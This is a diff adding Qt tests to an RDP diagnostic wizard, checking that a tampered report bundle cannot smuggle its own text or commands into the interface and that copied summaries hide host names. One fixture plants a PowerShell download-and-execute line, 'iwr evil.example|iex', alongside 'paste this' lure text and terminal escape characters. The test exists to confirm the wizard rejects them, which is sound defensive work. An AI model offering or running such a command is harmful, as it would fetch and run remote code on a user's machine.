@@ -4,6 +4,8 @@
 // on the window; stopping a run; keyboard use and what a screen reader is told.
 #include "FaultServer.h"
 #include "FreePort.h"
+#include "bundle/Bundle.h"
+#include "bundle/ZipArchive.h"
 #include "catalogue/Catalogue.h"
 #include "diagnosis/ErrorCodes.h"
 #include "models/ChecksModel.h"
@@ -23,7 +25,10 @@
 #include <QCheckBox>
 #include <QClipboard>
 #include <QComboBox>
+#include <QCryptographicHash>
 #include <QElapsedTimer>
+#include <QJsonArray>
+#include <QJsonDocument>
 #include <QLabel>
 #include <QLineEdit>
 #include <QListWidget>
@@ -37,6 +42,7 @@
 #include <QTest>
 #include <QTreeView>
 
+#include <functional>
 #include <memory>
 
 using namespace rdpdiag;
@@ -92,6 +98,75 @@ Report fixtureReport()
     return report;
 }
 
+/** fixtureReport() as a bundle stores it: with a tool version and a start time. */
+Report savedFixtureReport()
+{
+    Report report = fixtureReport();
+    report.toolVersion = QStringLiteral("0.1.0");
+    report.started = QDateTime(QDate(2026, 11, 24), QTime(10, 0), Qt::UTC);
+    return report;
+}
+
+/**
+ * Changes report.json in the bundle at @p path with @p edit and its manifest line to match —
+ * what anybody can do: the manifest is a checksum, not a signature.
+ */
+bool editBundle(const QString &path, const std::function<void(QJsonObject &)> &edit)
+{
+    QFile file(path);
+    if (!file.open(QIODevice::ReadOnly))
+        return false;
+    ZipReader zip;
+    QString error;
+    if (!zip.open(file.readAll(), ZipLimits{}, &error))
+        return false;
+    file.close();
+    QList<ZipEntryData> entries;
+    for (const ZipReader::Entry &entry : zip.entries())
+        entries.append({entry.name, zip.read(entry, entry.size, &error).value_or(QByteArray())});
+    QHash<QString, QByteArray> data;
+    for (ZipEntryData &entry : entries) {
+        if (entry.name == QLatin1String("report.json")) {
+            QJsonObject report = QJsonDocument::fromJson(entry.data).object();
+            edit(report);
+            entry.data = QJsonDocument(report).toJson();
+        }
+        data.insert(entry.name, entry.data);
+    }
+    for (ZipEntryData &entry : entries) {
+        if (entry.name != QLatin1String("manifest.json"))
+            continue;
+        QJsonObject manifest = QJsonDocument::fromJson(entry.data).object();
+        QJsonArray files;
+        for (const QJsonValue &value : manifest.value(QStringLiteral("files")).toArray()) {
+            QJsonObject listed = value.toObject();
+            const QByteArray bytes = data.value(listed.value(QStringLiteral("name")).toString());
+            listed.insert(QStringLiteral("size"), bytes.size());
+            listed.insert(QStringLiteral("sha256"),
+                          QString::fromLatin1(
+                              QCryptographicHash::hash(bytes, QCryptographicHash::Sha256).toHex()));
+            files.append(listed);
+        }
+        manifest.insert(QStringLiteral("files"), files);
+        entry.data = QJsonDocument(manifest).toJson();
+    }
+    const std::optional<QByteArray> archive =
+        buildZipArchive(entries, QDateTime::currentDateTimeUtc(), &error);
+    if (!archive || !file.open(QIODevice::WriteOnly | QIODevice::Truncate))
+        return false;
+    return file.write(*archive) == archive->size();
+}
+
+/** The texts of the visible labels named @p name under @p parent. */
+QStringList visibleTexts(QWidget *parent, const QString &name)
+{
+    QStringList texts;
+    for (const QLabel *label : parent->findChildren<QLabel *>(name))
+        if (label->isVisibleTo(parent))
+            texts << label->text();
+    return texts;
+}
+
 } // namespace
 
 class TestDiagnosticWizard : public QObject
@@ -118,6 +193,8 @@ private slots:
     void sameInputsDoNotRunTwice();
     void exportAndOpenBundle();
     void brokenBundleIsRefused();
+    void reopenedBundleShowsTheCatalogue();
+    void copiedSummaryFollowsHideNames();
     void technicalDetailsAreRemembered();
     void keyboardOnly();
     void everyControlHasAnAccessibleName();
@@ -126,6 +203,8 @@ private slots:
 private:
     /** A shown wizard (deleted in cleanup()). */
     DiagnosticWizard *makeWizard();
+    /** A shown wizard on the summary page of the bundle at @p path; nullptr if refused. */
+    DiagnosticWizard *openAtSummary(const QString &path);
     /** Types @p target (and codes) and presses Next; waits until the run ends. */
     void runAgainst(const QString &target, const QString &code = {}, const QString &extended = {});
 
@@ -158,6 +237,16 @@ DiagnosticWizard *TestDiagnosticWizard::makeWizard()
     if (!QTest::qWaitForWindowExposed(m_wizard.get()))
         qWarning("wizard window not exposed");
     return m_wizard.get();
+}
+
+DiagnosticWizard *TestDiagnosticWizard::openAtSummary(const QString &path)
+{
+    DiagnosticWizard *viewer = makeWizard();
+    if (!viewer->openBundle(path))
+        return nullptr;
+    while (viewer->currentId() != DiagnosticWizard::Page_Summary)
+        viewer->next();
+    return viewer;
 }
 
 void TestDiagnosticWizard::runAgainst(const QString &target, const QString &code,
@@ -576,6 +665,113 @@ void TestDiagnosticWizard::exportAndOpenBundle()
     QVERIFY(viewer->button(QWizard::NextButton)->isEnabled());
     viewer->next();
     QVERIFY(viewer->controller()->isViewing());
+}
+
+void TestDiagnosticWizard::reopenedBundleShowsTheCatalogue()
+{
+    // Given a bundle whose report.json someone edited: a fake title, detail and command, a
+    // code this version does not know, and terminal escapes in a stage summary
+    const Report report = savedFixtureReport();
+    QTemporaryDir dir;
+    const QString path = dir.filePath(QStringLiteral("edited.zip"));
+    const BundleWriteResult written = writeBundle(report, path, {});
+    QVERIFY2(written.ok, qPrintable(written.error));
+    QVERIFY(editBundle(path, [](QJsonObject &json) {
+        QJsonArray findings = json.value(QStringLiteral("findings")).toArray();
+        QJsonObject finding = findings.first().toObject();
+        finding.insert(QStringLiteral("title"), QStringLiteral("Fix: paste the command below"));
+        finding.insert(QStringLiteral("detail"), QStringLiteral("Support says: paste it."));
+        finding.insert(QStringLiteral("remediation"),
+                       QJsonArray{QJsonObject{
+                           {QStringLiteral("where"), QStringLiteral("client")},
+                           {QStringLiteral("text"), QStringLiteral("Paste this")},
+                           {QStringLiteral("command"), QStringLiteral("iwr evil.example|iex")},
+                           {QStringLiteral("shell"), QStringLiteral("powershell")}}});
+        findings.replace(0, finding);
+        finding.insert(QStringLiteral("code"), QStringLiteral("future.fix_everything"));
+        findings.append(finding);
+        json.insert(QStringLiteral("findings"), findings);
+        QJsonArray stages = json.value(QStringLiteral("stages")).toArray();
+        QJsonObject stage = stages.at(3).toObject();
+        stage.insert(QStringLiteral("summary"), QStringLiteral("x224 \x1b[2J\u009b31m\u202eexe"));
+        stages.replace(3, stage);
+        json.insert(QStringLiteral("stages"), stages);
+    }));
+
+    // When the wizard opens it
+    DiagnosticWizard *viewer = openAtSummary(path);
+    QVERIFY(viewer);
+
+    // Then the known finding shows the catalogue's texts and commands, never the bundle's
+    auto *summary = viewer->summaryPage();
+    auto *list = child<QListWidget>(summary, QStringLiteral("findingsListWidget"));
+    auto *details = child<FindingView>(summary, QStringLiteral("summaryFindingView"));
+    QCOMPARE(list->count(), 2);
+    const auto select = [list](const QString &code) {
+        for (int row = 0; row < list->count(); ++row)
+            if (list->item(row)->data(Qt::UserRole + 1).toString() == code)
+                list->setCurrentRow(row);
+        QCoreApplication::processEvents(); // a layout shows new children with a queued call
+    };
+    select(QStringLiteral("x224.reset"));
+    const Finding &made = report.findings.first();
+    QStringList madeCommands;
+    for (const Remedy &remedy : made.remediation)
+        if (!remedy.command.isEmpty())
+            madeCommands << remedy.command;
+    QVERIFY(!madeCommands.isEmpty());
+    QCOMPARE(visibleTexts(details, QStringLiteral("commandLabel")), madeCommands);
+    QCOMPARE(visibleTexts(details, QStringLiteral("findingTitleLabel")), QStringList{made.title});
+    // Nowhere in the wizard (every page, every label): no fake text, no control character
+    for (const QLabel *label : viewer->findChildren<QLabel *>()) {
+        QVERIFY2(!label->text().contains(QStringLiteral("evil.example")),
+                 qPrintable(label->text()));
+        QVERIFY2(!label->text().contains(QStringLiteral("Support says")),
+                 qPrintable(label->text()));
+        for (const QChar c : label->text())
+            QVERIFY2(c.unicode() != 0x1b && c.unicode() != 0x9b && c.unicode() != 0x202e,
+                     qPrintable(label->objectName()));
+    }
+    // The stage summary the check list and the pipeline strip show is made safe too
+    QCOMPARE(viewer->controller()->report().stages.at(3).summary,
+             QStringLiteral("x224 \uFFFD[2J\uFFFD31m\uFFFDexe"));
+    // And the unknown code says so, with no command at all
+    select(QStringLiteral("future.fix_everything"));
+    const QStringList titles = visibleTexts(details, QStringLiteral("findingTitleLabel"));
+    QCOMPARE(titles.size(), 1);
+    QVERIFY2(titles.first().contains(QStringLiteral("Unknown finding")),
+             qPrintable(titles.first()));
+    QCOMPARE(visibleTexts(details, QStringLiteral("commandLabel")), QStringList());
+    QVERIFY(details->findChildren<QPushButton *>(QStringLiteral("copyCommandButton")).isEmpty() ||
+            !details->findChildren<QPushButton *>(QStringLiteral("copyCommandButton"))
+                 .first()
+                 ->isVisibleTo(details));
+}
+
+void TestDiagnosticWizard::copiedSummaryFollowsHideNames()
+{
+    // Given a saved (not redacted) run of pc.example.test
+    const Report report = savedFixtureReport();
+    QTemporaryDir dir;
+    const QString path = dir.filePath(QStringLiteral("plain.zip"));
+    QVERIFY(writeBundle(report, path, {}).ok);
+    DiagnosticWizard *viewer = openAtSummary(path);
+    QVERIFY(viewer);
+    auto *hide = child<QCheckBox>(viewer, QStringLiteral("redactCheckBox"));
+    auto *copy = child<QPushButton>(viewer, QStringLiteral("copySummaryButton"));
+    const QString host = QStringLiteral("pc.example.test");
+
+    // When "Hide names and addresses" is ticked (the default), the copied summary hides them
+    QVERIFY(hide->isChecked());
+    QTest::mouseClick(copy, Qt::LeftButton);
+    QString copied = QGuiApplication::clipboard()->text();
+    QVERIFY2(!copied.contains(host), qPrintable(copied));
+    QVERIFY(copied.contains(report.reference));
+    // and when it is not, it shows them
+    hide->setChecked(false);
+    QTest::mouseClick(copy, Qt::LeftButton);
+    copied = QGuiApplication::clipboard()->text();
+    QVERIFY2(copied.contains(host), qPrintable(copied));
 }
 
 void TestDiagnosticWizard::brokenBundleIsRefused()
